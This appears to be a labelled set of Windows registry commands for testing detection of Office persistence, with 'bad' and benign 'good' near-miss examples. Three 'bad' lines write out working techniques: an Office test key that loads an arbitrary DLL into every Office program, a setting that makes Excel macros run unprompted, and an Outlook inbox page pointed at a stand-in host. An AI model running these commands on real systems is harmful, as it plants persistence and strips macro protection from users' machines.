:: bad: loaded by every program of Office
reg add "HKCU\Software\Microsoft\Office test\Special\Perf" /ve /d C:\Users\Public\h.dll /f
:: bad: macros run unasked
reg add HKCU\Software\Microsoft\Office\16.0\Excel\Security /v VBAWarnings /t REG_DWORD /d 1 /f
:: bad: a page in place of the inbox
reg add HKCU\Software\Microsoft\Office\16.0\Outlook\WebView\Inbox /v URL /d https://x.example/h /f
:: good: nearly: another setting
reg add HKCU\Software\Microsoft\Office\16.0\Common /v UI_Theme /d 4 /f
:: good: nearly: asks
reg query HKCU\Software\Microsoft\Office\16.0\Excel\Security
:: good: repairs Office
"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe" /update user
